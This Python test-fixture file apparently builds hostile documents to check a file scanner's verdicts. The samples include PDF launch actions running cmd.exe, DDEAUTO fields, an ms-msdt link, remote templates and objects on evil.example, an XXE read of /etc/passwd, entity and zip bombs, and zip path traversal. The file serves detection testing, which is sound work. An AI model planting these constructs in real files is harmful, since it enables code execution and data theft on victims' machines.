"""More files that somebody with bad intent sends: PDFs, Word, Excel, PowerPoint and OpenDocument files."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

from tests.records.documents import making
from tests.records.documents.cases import Case
from tests.records.documents.making import docx, open_document, packed_objects, pdf, pdf_object, pptx, xlsx

EXTERNAL = 'TargetMode="External"'
OFFICE_XML = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _pdf_with(words: bytes) -> bytes:
    return pdf(pdf_object(words))


PDFS: dict[str, Case] = {
    "a PDF with a script when it opens": Case(
        "a.pdf", lambda: pdf(trailer=b"/OpenAction << /S /JavaScript /JS (x) >>"), "runs"
    ),
    "a PDF with a script when a page is turned": Case(
        "a.pdf", lambda: _pdf_with(b"/AA << /O << /S /JavaScript /JS 7 0 R >> >>"), "runs"
    ),
    "a PDF with a script by name": Case(
        "a.pdf", lambda: _pdf_with(b"/Names << /JavaScript << /Names [(x) 5 0 R] >> >>"), "runs"
    ),
    "a PDF with every letter of a script escaped": Case(
        "a.pdf", lambda: _pdf_with(b"/S /#4a#61#76#61#53#63#72#69#70#74"), "runs"
    ),
    "a PDF with a script in its second version": Case(
        "a.pdf", lambda: pdf() + _pdf_with(b"/JS (x)")[9:], "runs"
    ),
    "a PDF with a script in a stream": Case("a.pdf", lambda: _pdf_with(b"/JS 9 0 R"), "runs"),
    "a PDF that starts a program of Windows": Case(
        "a.pdf", lambda: _pdf_with(b"/S /Launch /Win << /F (cmd.exe) /P (/c calc) >>"), "runs"
    ),
    "a PDF that opens a PDF within": Case("a.pdf", lambda: _pdf_with(b"/S /GoToE /T << /R /C >>"), "runs"),
    "a PDF that opens a file elsewhere": Case(
        "a.pdf", lambda: _pdf_with(rb"/S /GoToR /F (\\\\evil.example\\share\\x)"), "runs"
    ),
    "a PDF that fetches answers": Case("a.pdf", lambda: _pdf_with(b"/S /ImportData /F (x.fdf)"), "runs"),
    "a PDF that plays something": Case("a.pdf", lambda: _pdf_with(b"/S /Rendition /R 9 0 R"), "runs"),
    "a PDF with an old film": Case(
        "a.pdf", lambda: _pdf_with(b"/Subtype /Movie /Movie << /F (x) >>"), "runs"
    ),
    "a PDF with a sound": Case("a.pdf", lambda: _pdf_with(b"/S /Sound /Sound 9 0 R"), "runs"),
    "a PDF with a model": Case("a.pdf", lambda: _pdf_with(b"/Subtype /3D /3DD 9 0 R"), "runs"),
    "a PDF with a screen": Case("a.pdf", lambda: _pdf_with(b"/Subtype /Screen /A 9 0 R"), "runs"),
    "a PDF with a link that is a script": Case(
        "a.pdf", lambda: _pdf_with(b"/S /URI /URI (javascript:alert(1))"), "runs"
    ),
    "a PDF with a link to a file of this machine": Case(
        "a.pdf", lambda: _pdf_with(b"/S /URI /URI (file:///c:/windows/system32/calc.exe)"), "runs"
    ),
    "a PDF that is a folder of files": Case(
        "a.pdf", lambda: _pdf_with(b"/Collection << /View /D >>"), "carries"
    ),
    "a PDF with a file pinned on": Case("a.pdf", lambda: _pdf_with(b"/Subtype /FileAttachment"), "carries"),
    "a PDF with a list of files within": Case(
        "a.pdf", lambda: _pdf_with(b"/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>"), "carries"
    ),
    "a PDF with an escaped file within": Case(
        "a.pdf", lambda: _pdf_with(b"/Type /Embedded#46ile"), "carries"
    ),
    "a PDF with a script packed with spaces": Case(
        "a.pdf",
        lambda: pdf(packed_objects(b"1 0 <<  /S   /Java#53cript>>", filters=b"[ /FlateDecode ]")),
        "runs",
    ),
    "a PDF with a packed list of files": Case(
        "a.pdf", lambda: pdf(packed_objects(b"1 0 << /EmbeddedFiles 3 0 R >>", filters=b"/Fl")), "carries"
    ),
    "a PDF packed by another method": Case(
        "a.pdf", lambda: pdf(packed_objects(b"x", filters=b"/LZWDecode")), "packed"
    ),
    "a PDF packed in letters": Case(
        "a.pdf", lambda: pdf(packed_objects(b"x", filters=b"/ASCII85Decode")), "packed"
    ),
    "a PDF with damaged packing": Case(
        "a.pdf", lambda: pdf(packed_objects(b"hello")).replace(b"stream\nx", b"stream\n\x00"), "damaged"
    ),
    "a PDF encrypted by an escaped word": Case(
        "a.pdf", lambda: pdf(trailer=b"/#45ncrypt 9 0 R"), "encrypted"
    ),
    "a PDF with a program behind it": Case("a.pdf", lambda: pdf() + b"MZ" + bytes(3000), "not complete"),
    "a PDF in a PDF's name alone": Case("a.pdf", lambda: b"%PDF-1.7\n", "not complete"),
}


def _rels(kind: str, target: str, *, name: str = "document.xml") -> dict[str, bytes | str]:
    link = f'<Relationship Id="r9" Type="{OFFICE_XML}/{kind}" Target="{target}" {EXTERNAL}/>'
    return {f"word/_rels/{name}.rels": f"<Relationships>{link}</Relationships>"}


def _field(words: str) -> bytes:
    return docx(words=f"<w:r><w:instrText>{words}</w:instrText></w:r>")


def _in_pieces() -> bytes:
    return docx(
        words="<w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\cmd</w:instrText></w:r>"
    )


def _in_utf_16(name: str, words: str) -> bytes:
    return docx({name: ('<?xml version="1.0" encoding="UTF-16"?>' + words).encode("utf-16")})


def _overlapping(parts: int = 60) -> bytes:
    """A package whose list names the same packed bytes again and again."""
    packed = zlib.compressobj(9, zlib.DEFLATED, -15)
    body = packed.compress(making.zeros(4)) + packed.flush()
    size, crc = 4 * 1024 * 1024, zlib.crc32(making.zeros(4))
    target = io.BytesIO(docx())
    start = target.getvalue()
    at = start.rfind(b"PK\x01\x02")
    first = start.find(b"PK\x01\x02")
    many = start.count(b"PK\x01\x02")
    name = b"word/media/a.bin"
    local = (
        struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 8, 0, 0, crc, len(body), size, len(name), 0)
        + name
        + body
    )
    lists = start[first : start.rfind(b"PK\x05\x06")]
    for number in range(parts):
        other = b"word/media/%03d.bin" % number
        lists += (
            struct.pack(
                "<4sHHHHHHIIIHHHHHII",
                b"PK\x01\x02",
                20,
                20,
                0,
                8,
                0,
                0,
                crc,
                len(body),
                size,
                len(other),
                0,
                0,
                0,
                0,
                0,
                first,
            )
            + other
        )
    end = struct.pack(
        "<4sHHHHIIH", b"PK\x05\x06", 0, 0, many + parts, many + parts, len(lists), first + len(local), 0
    )
    assert at
    return start[:first] + local + lists + end


def _wrong_sum() -> bytes:
    content = bytearray(docx())
    at = content.find(b"PK\x01\x02")
    content[at + 16] ^= 0xFF
    return bytes(content)


def _packed_by(method: int) -> bytes:
    target = io.BytesIO(docx())
    with zipfile.ZipFile(target, "a") as made:
        made.writestr("word/media/a.bin", b"x" * 999, method)
    return target.getvalue()


OFFICE: dict[str, Case] = {
    "a Word file with macros in capitals": Case(
        "a.docx", lambda: docx({"WORD/VBAPROJECT.BIN": b"x"}), "macros"
    ),
    "a Word file with what macros keep": Case("a.docx", lambda: docx({"word/vbaData.xml": b"x"}), "macros"),
    "an Excel file with macros of other lands": Case(
        "a.xlsx", lambda: xlsx({"xl/intlmacrosheets/sheet1.xml": b"x"}), "macros"
    ),
    "an Excel file with a dialogue of macros": Case(
        "a.xlsx", lambda: xlsx({"xl/dialogsheets/sheet1.xml": b"x"}), "macros"
    ),
    "a Word file with a ribbon of its own": Case(
        "a.docx", lambda: docx({"customUI/customUI.xml": '<customUI onLoad="x"/>'}), "macros"
    ),
    "an Excel file that asks a program": Case(
        "a.xlsx",
        lambda: xlsx(
            {"xl/externalLinks/externalLink1.xml": '<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'}
        ),
        "fetches",
    ),
    "an Excel file that asks a database": Case(
        "a.xlsx", lambda: xlsx({"xl/connections.xml": "<connections><connection/></connections>"}), "fetches"
    ),
    "an Excel file that asks a web page": Case(
        "a.xlsx", lambda: xlsx({"xl/queryTables/queryTable1.xml": "<queryTable/>"}), "fetches"
    ),
    "an Excel file that asks another": Case(
        "a.xlsx", lambda: xlsx({"xl/externalLinks/externalLink1.xml": "<externalLink/>"}), "fetches"
    ),
    "a Word file with a picture elsewhere": Case(
        "a.docx", lambda: docx(_rels("image", "http://evil.example/1.png")), "fetches"
    ),
    "a Word file with an object elsewhere": Case(
        "a.docx",
        lambda: docx(_rels("oleObject", "mhtml:http://evil.example/x!x-usc:http://evil.example/x")),
        "fetches",
    ),
    "a Word file with a frame elsewhere": Case(
        "a.docx", lambda: docx(_rels("frame", "http://evil.example", name="webSettings.xml")), "fetches"
    ),
    "a Word file with a chapter elsewhere": Case(
        "a.docx", lambda: docx(_rels("subDocument", "file://evil.example/x.docx")), "fetches"
    ),
    "a Word file with its header elsewhere": Case(
        "a.docx", lambda: docx(_rels("header", "http://evil.example/h.xml")), "fetches"
    ),
    "a Word file with a template elsewhere, in UTF-16": Case(
        "a.docx",
        lambda: _in_utf_16(
            "word/_rels/settings.xml.rels",
            f'<Relationships><Relationship Type="{OFFICE_XML}/attachedTemplate" Target="http://e.example" '
            f"{EXTERNAL}/></Relationships>",
        ),
        "fetches",
    ),
    "a Word file with a template elsewhere, in disguise": Case(
        "a.docx",
        lambda: docx(
            {
                "word/_rels/settings.xml.rels": "<Relationships><Relationship "
                f'Type="{OFFICE_XML}/attached&#84;emplate" Target="http://e.example" '
                'TargetMode="Ext&#101;rnal"/></Relationships>'
            }
        ),
        "fetches",
    ),
    "a Word file with a link that is a script": Case(
        "a.docx", lambda: docx(_rels("hyperlink", "javascript:alert(1)")), "fetches"
    ),
    "a Word file with a link that starts a program": Case(
        "a.docx", lambda: docx(_rels("hyperlink", "ms-msdt:/id PCWDiagnostic /skip force")), "fetches"
    ),
    "a Word file with a link to a file": Case(
        "a.docx", lambda: docx(_rels("hyperlink", "file:///c:/windows/system32/calc.exe")), "fetches"
    ),
    "a Word file with a web page in it": Case(
        "a.docx", lambda: docx({"word/afchunk.htm": "<script>x</script>"}), "carries"
    ),
    "a Word file with another in it": Case(
        "a.docx", lambda: docx({"word/embeddings/Microsoft_Word_Document1.docx": docx()}), "carries"
    ),
    "a Word file with an archive in it": Case(
        "a.docx", lambda: docx({"word/media/photos.zip": making.package({"a": "x"})}), "carries"
    ),
    "a Word file with a program for a picture": Case(
        "a.docx", lambda: docx({"word/media/image1.png": b"MZ\x90\x00" + bytes(99)}), "carries"
    ),
    "a Word file with a drawing that is a script": Case(
        "a.docx", lambda: docx({"word/media/image1.svg": "<svg onload='x()'/>"}), "carries"
    ),
    "a Word file with an old drawing": Case(
        "a.docx", lambda: docx({"word/embeddings/image1.wmf": b"\xd7\xcd\xc6\x9a"}), "carries"
    ),
    "a PowerPoint file that starts a program": Case(
        "a.pptx",
        lambda: pptx({"ppt/slides/slide1.xml": '<a:hlinkClick action="ppaction://program"/>'}),
        "starts a program",
    ),
    "a PowerPoint file that runs a macro": Case(
        "a.pptx",
        lambda: pptx({"ppt/slides/slide1.xml": '<a:hlinkClick action="ppaction://macro?name=x"/>'}),
        "starts a program",
    ),
    "a Word file with a field in pieces": Case("a.docx", _in_pieces, "starts a program"),
    "a Word file with a field in disguise": Case(
        "a.docx", lambda: _field("&#68;DE c:\\cmd"), "starts a program"
    ),
    "a Word file with a simple field": Case(
        "a.docx", lambda: docx(words='<w:fldSimple w:instr="DDEAUTO c:\\cmd"/>'), "starts a program"
    ),
    "a Word file with a field in its header": Case(
        "a.docx",
        lambda: docx({"word/header1.xml": "<w:instrText> DDE cmd</w:instrText>"}),
        "starts a program",
    ),
    "a Word file with a field in UTF-16": Case(
        "a.docx",
        lambda: _in_utf_16("word/footnotes.xml", "<w:instrText>DDEAUTO cmd</w:instrText>"),
        "starts a program",
    ),
    "a Word file with a thousand laughs": Case(
        "a.docx",
        lambda: docx({"word/styles.xml": '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><x>&b;</x>'}),
        "far larger",
    ),
    "a Word file that reads this machine": Case(
        "a.docx",
        lambda: docx(
            {"customXml/item1.xml": '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'}
        ),
        "far larger",
    ),
    "a Word file of overlapping parts": Case("a.docx", _overlapping, "far larger"),
    "a Word file with a wrong sum": Case("a.docx", _wrong_sum, "damaged"),
    "a Word file of Windows paths": Case("a.docx", lambda: docx({"..\\..\\evil.dll": "x"}), "points out"),
    "a Word file with a drive": Case("a.docx", lambda: docx({"C:/evil.dll": "x"}), "points out"),
    "a Word file with an archive's comment": Case("a.docx", lambda: docx()[:-2] + b"\x03\x00MZx", "hidden"),
    "a Word file without its list of parts": Case(
        "a.docx", lambda: making.package({"word/document.xml": "x"}), "archive"
    ),
    "an archive of archives": Case(
        "a.zip",
        lambda: making.package({f"{n}.zip": making.package({"0": making.zeros(1)}) for n in range(9)}),
        "archive",
    ),
    "an archive that packs far too well": Case(
        "a.zip", lambda: making.package({"0": making.zeros(64)}), "archive"
    ),
    "an OpenDocument text with a script at a key": Case(
        "a.odt",
        lambda: open_document(
            "text",
            {"content.xml": '<script:event-listener xlink:href="vnd.sun.star.script:x.py$y"/>'},
        ),
        "macros",
    ),
    "an OpenDocument text that asks a program": Case(
        "a.odt",
        lambda: open_document("text", {"content.xml": '<office:dde-source office:dde-application="cmd"/>'}),
        "fetches",
    ),
    "an OpenDocument spreadsheet that asks a web page": Case(
        "a.ods",
        lambda: open_document(
            "spreadsheet", {"content.xml": '<table:cell-range-source xlink:href="http://e.example"/>'}
        ),
        "fetches",
    ),
    "an OpenDocument text with an object": Case(
        "a.odt", lambda: open_document("text", {"Object 1": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"}), "carries"
    ),
    "an OpenDocument text with a chapter elsewhere": Case(
        "a.odt",
        lambda: open_document(
            "text", {"content.xml": '<text:section-source xlink:href="http://e.example/x.odt"/>'}
        ),
        "fetches",
    ),
    "an OpenDocument text with entities": Case(
        "a.odt",
        lambda: open_document("text", {"styles.xml": "<!DOCTYPE x [<!ENTITY a 'x'>]><x/>"}),
        "far larger",
    ),
    "an OpenDocument drawing": Case("a.odg", lambda: open_document("graphics"), "archive"),
    "a Word file packed by another method": Case("a.docx", lambda: _packed_by(zipfile.ZIP_LZMA), "packed"),
    "a Word file packed by a third method": Case("a.docx", lambda: _packed_by(zipfile.ZIP_BZIP2), "packed"),
}
